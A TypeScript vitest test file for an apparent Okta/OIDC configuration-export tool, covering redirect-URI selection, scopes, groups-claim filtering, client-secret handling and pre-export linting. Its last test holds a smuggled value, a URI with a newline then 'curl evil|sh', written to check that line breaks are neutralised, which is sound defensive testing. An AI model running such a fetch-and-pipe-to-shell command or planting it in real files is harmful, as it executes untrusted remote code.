import { describe, expect, it } from 'vitest';

import {
  assertPassesPreExportLint,
  environmentSecret,
  findRegisteredCallback,
  groupsReleasedByClaim,
  inlineSecretOf,
  inlineSecretWarning,
  oneLine,
  pickPostLogoutRedirectUri,
  requestedScopes,
  secretPlanFor,
  trimTrailingSlashes,
} from '../../../../main/export/target-rules.ts';
import type { GroupsClaim } from '../../../../shared/setup/setup-document.ts';
import { exportInputFor, FIXTURE_CLIENT_SECRET } from '../../../support/export-fixtures.ts';

const GRAFANA_RULE = {
  kind: 'follows-path',
  targetTitle: 'Grafana',
  callbackPath: '/login/okta',
  ruleText: '<root_url>/login/okta',
} as const;

function inputWith(redirectUris: string[], baseUrl = 'https://grafana.example.com/') {
  return exportInputFor('web', {
    adjust: (document) => {
      document.target.baseUrl = baseUrl;
      document.app.redirectUris = redirectUris;
    },
  });
}

describe('findRegisteredCallback', () => {
  it('takes the URI under the base URL, whatever else is registered', () => {
    const input = inputWith([
      'https://other.example.com/login/okta',
      'https://grafana.example.com/login/okta',
    ]);
    expect(findRegisteredCallback(input, GRAFANA_RULE)).toEqual({
      redirectUri: 'https://grafana.example.com/login/okta',
      baseUrl: 'https://grafana.example.com',
      warnings: [],
    });
  });

  it('falls back to another URI that follows the rule, and says the base URL moved', () => {
    const callback = findRegisteredCallback(
      inputWith(['https://grafana.internal/sub/login/okta']),
      GRAFANA_RULE,
    );
    expect(callback.redirectUri).toBe('https://grafana.internal/sub/login/okta');
    expect(callback.baseUrl).toBe('https://grafana.internal/sub');
    expect(callback.warnings.join(' ')).toContain('https://grafana.internal/sub');
  });

  it('refuses when no registered URI follows the rule, naming the one the target sends', () => {
    expect(() =>
      findRegisteredCallback(inputWith(['https://grafana.example.com/login/okta/']), GRAFANA_RULE),
    ).toThrow(
      'Grafana sends the redirect URI https://grafana.example.com/login/okta (<root_url>/login/okta), which is not one of the app',
    );
    expect(() => findRegisteredCallback(inputWith([]), GRAFANA_RULE)).toThrow('(none)');
  });

  describe('at the base URL only (Kestra, Kaimu)', () => {
    const KESTRA_RULE = {
      kind: 'at-base-url',
      targetTitle: 'Kestra',
      callbackPath: '/oauth/callback/okta',
    } as const;

    it('takes the callback under the base URL', () => {
      expect(
        findRegisteredCallback(
          inputWith(
            ['https://kestra.example.com/oauth/callback/okta'],
            'https://kestra.example.com//',
          ),
          KESTRA_RULE,
        ),
      ).toEqual({
        redirectUri: 'https://kestra.example.com/oauth/callback/okta',
        baseUrl: 'https://kestra.example.com',
        warnings: [],
      });
    });

    it('refuses a callback under another base URL instead of following it', () => {
      expect(() =>
        findRegisteredCallback(
          inputWith(['https://kestra.internal/oauth/callback/okta'], 'https://kestra.example.com'),
          KESTRA_RULE,
        ),
      ).toThrow(
        'Kestra will send the redirect URI "https://kestra.example.com/oauth/callback/okta", but the app does not register it (registered: "https://kestra.internal/oauth/callback/okta").',
      );
      expect(() => findRegisteredCallback(inputWith([]), KESTRA_RULE)).toThrow(
        '(registered: none)',
      );
    });
  });

  describe('generic files (dotenv, JSON, .okta.env)', () => {
    const GENERIC_RULE = { kind: 'generic', targetTitle: '.env' } as const;

    function webInputWith(redirectUris: string[]) {
      return exportInputFor('web', {
        adjust: (document) => {
          document.target.baseUrl = 'https://app.example.com/';
          document.app.redirectUris = redirectUris;
        },
      });
    }

    it("prefers the preset's callback, else the first registered URI", () => {
      const preset = 'https://app.example.com/authorization-code/callback';
      expect(
        findRegisteredCallback(webInputWith(['https://app.example.com/cb', preset]), GENERIC_RULE),
      ).toEqual({ redirectUri: preset, warnings: [] });
      expect(
        findRegisteredCallback(
          webInputWith(['https://app.example.com/cb', 'https://app.example.com/other']),
          GENERIC_RULE,
        ).redirectUri,
      ).toBe('https://app.example.com/cb');
    });

    it('refuses when the app registers no redirect URI', () => {
      expect(() => findRegisteredCallback(webInputWith([]), GENERIC_RULE)).toThrow(
        'Cannot export for .env: the app registers no sign-in redirect URI.',
      );
    });
  });
});

describe('trimTrailingSlashes', () => {
  it('drops surrounding space and every trailing slash, nothing else', () => {
    expect(trimTrailingSlashes(' http://localhost:8080// ')).toBe('http://localhost:8080');
    expect(trimTrailingSlashes('https://app.example.com/sub')).toBe('https://app.example.com/sub');
  });
});

describe('requestedScopes', () => {
  it('asks the org server for the standard scopes, plus groups with a groups claim', () => {
    expect(requestedScopes(exportInputFor('web')).scopes).toEqual(['openid', 'profile', 'email']);
    const withClaim = exportInputFor('web', {
      adjust: (document) => {
        document.issuer.groupsClaim = {
          type: 'FILTER',
          name: 'groups',
          filterType: 'REGEX',
          value: '.*',
        };
      },
    });
    expect(requestedScopes(withClaim).scopes).toEqual(['openid', 'profile', 'email', 'groups']);
  });

  it('asks a custom server for exactly its scopes, warning about unadvertised ones', () => {
    const input = exportInputFor('kaimu', {
      adjust: (document) => {
        if (document.issuer.kind === 'custom') {
          document.issuer.scopes = ['openid', 'email', 'kaimu.read'];
        }
      },
    });
    const { scopes, warnings } = requestedScopes(input);
    expect(scopes).toEqual(['openid', 'email', 'kaimu.read']);
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toContain('"kaimu.read"');
  });
});

describe('groupsReleasedByClaim', () => {
  function released(claim: GroupsClaim | undefined): string[] {
    return groupsReleasedByClaim(
      exportInputFor('web', {
        adjust: (document) => {
          if (claim !== undefined) {
            document.issuer.groupsClaim = claim;
          }
        },
      }),
    );
  }

  it.each([
    [undefined, []],
    [
      { type: 'FILTER', name: 'groups', filterType: 'REGEX', value: '.*' },
      ['Engineering', 'Kestra Admins'],
    ],
    [{ type: 'FILTER', name: 'groups', filterType: 'REGEX', value: 'Kestra.*' }, ['Kestra Admins']],
    [
      { type: 'FILTER', name: 'groups', filterType: 'REGEX', value: '(' },
      ['Engineering', 'Kestra Admins'],
    ],
    [
      { type: 'FILTER', name: 'groups', filterType: 'STARTS_WITH', value: 'kestra' },
      ['Kestra Admins'],
    ],
    [
      { type: 'FILTER', name: 'groups', filterType: 'EQUALS', value: 'engineering' },
      ['Engineering'],
    ],
    [{ type: 'FILTER', name: 'groups', filterType: 'CONTAINS', value: 'admin' }, ['Kestra Admins']],
    [
      { type: 'EXPRESSION', name: 'groups', value: 'Groups.startsWith("OKTA", "kestra", 100)' },
      ['Kestra Admins'],
    ],
    [
      { type: 'EXPRESSION', name: 'groups', value: 'Groups.endsWith("OKTA", "ring", 10)' },
      ['Engineering'],
    ],
    [
      { type: 'EXPRESSION', name: 'groups', value: 'Groups.contains("active_directory", "e", 10)' },
      [],
    ],
    // Okta evaluates what the console cannot read: every group is listed rather than one left out.
    [
      { type: 'EXPRESSION', name: 'groups', value: 'getFilteredGroups(app.profile.allow, "", 40)' },
      ['Engineering', 'Kestra Admins'],
    ],
  ] as const)('releases what the filter %j lets through', (claim, expected) => {
    expect(released(claim)).toEqual(expected);
  });
});

describe('the secret and the lint', () => {
  it('inlines the secret only when asked, and never for a public client', () => {
    const inline = { kind: 'inline', value: FIXTURE_CLIENT_SECRET } as const;
    expect(inlineSecretOf(exportInputFor('web'))).toBeUndefined();
    expect(inlineSecretOf(exportInputFor('web', { secret: inline }))).toBe(FIXTURE_CLIENT_SECRET);
    expect(inlineSecretOf(exportInputFor('spa', { secret: inline }))).toBeUndefined();
  });

  it('plans the secret: none for a public client, else inline only when asked', () => {
    const inline = { kind: 'inline', value: FIXTURE_CLIENT_SECRET } as const;
    expect(secretPlanFor(exportInputFor('web'))).toEqual({ kind: 'reference' });
    expect(secretPlanFor(exportInputFor('web', { secret: inline }))).toEqual(inline);
    expect(secretPlanFor(exportInputFor('spa', { secret: inline }))).toEqual({ kind: 'none' });
    expect(environmentSecret('OIDC_CLIENT_SECRET')).toEqual({
      kind: 'environment',
      variable: 'OIDC_CLIENT_SECRET',
    });
  });

  it('warns about an inline secret by the file that holds it', () => {
    const warning = inlineSecretWarning('.env');
    expect(warning).toMatch(/^\.env holds the client secret in clear text/);
    expect(warning).toContain('0600');
  });

  it('lists every lint problem in one error, without the secret', () => {
    const input = exportInputFor('web', { secret: { kind: 'inline', value: 'abc{{def' } });
    input.applied.clientId = '';
    expect(() => {
      assertPassesPreExportLint(input, { opening: 'Cannot export the Grafana configuration:' });
    }).toThrow(
      /^Cannot export the Grafana configuration: The client id is blank\..*leftover template marker/,
    );
    expect(() => {
      assertPassesPreExportLint(input, { opening: 'Cannot export the Grafana configuration:' });
    }).not.toThrow('abc{{def');
  });

  it('opens the error as the target words it, on one line or as a list', () => {
    const input = exportInputFor('web');
    input.facts.discovery.issuer = 'https://{yourOktaDomain}';
    input.applied.clientId = '{clientId}';
    expect(() => {
      assertPassesPreExportLint(input, { opening: 'Cannot export for Kestra:' });
    }).toThrow(/^Cannot export for Kestra: The issuer still holds .*\. The client id still holds/);
    expect(() => {
      assertPassesPreExportLint(input, {
        opening: 'The Terraform export was not written, because:',
        layout: 'list',
      });
    }).toThrow(
      /^The Terraform export was not written, because:\n- The issuer still holds [^\n]*\n- The client id still holds/,
    );
  });

  it("lints a public client's inline secret only when asked to lint what was asked", () => {
    const input = exportInputFor('spa', { secret: { kind: 'inline', value: 'XXXX' } });
    expect(() => {
      assertPassesPreExportLint(input, { opening: 'Cannot export the Spring Boot configuration:' });
    }).toThrow('The client secret still holds');
    expect(() => {
      assertPassesPreExportLint(input, { opening: 'Cannot export for .env:', secret: 'written' });
    }).not.toThrow();
  });
});

describe('pickPostLogoutRedirectUri', () => {
  it('prefers the base URL, then a URI under it, then the first one', () => {
    const input = exportInputFor('web', {
      adjust: (document) => {
        document.app.postLogoutRedirectUris = [
          'https://elsewhere.example.com',
          'https://app.example.com/signed-out',
          'https://app.example.com/',
        ];
      },
    });
    expect(pickPostLogoutRedirectUri(input, 'https://app.example.com')).toBe(
      'https://app.example.com/',
    );
    input.document.app.postLogoutRedirectUris.pop();
    expect(pickPostLogoutRedirectUri(input, 'https://app.example.com')).toBe(
      'https://app.example.com/signed-out',
    );
    expect(pickPostLogoutRedirectUri(input, 'https://none.example.com')).toBe(
      'https://elsewhere.example.com',
    );
    input.document.app.postLogoutRedirectUris = [];
    expect(pickPostLogoutRedirectUri(input, 'https://app.example.com')).toBeUndefined();
  });
});

describe('oneLine', () => {
  it('keeps a value on its comment line: a line break could make the rest a command', () => {
    expect(oneLine('https://a.example/cb\ncurl evil|sh')).toBe('https://a.example/cb?curl evil|sh');
    expect(oneLine('a\r\tb\u0000c\u007f')).toBe('a??b?c?');
    expect(oneLine('https://a.example/cb')).toBe('https://a.example/cb');
  });
});
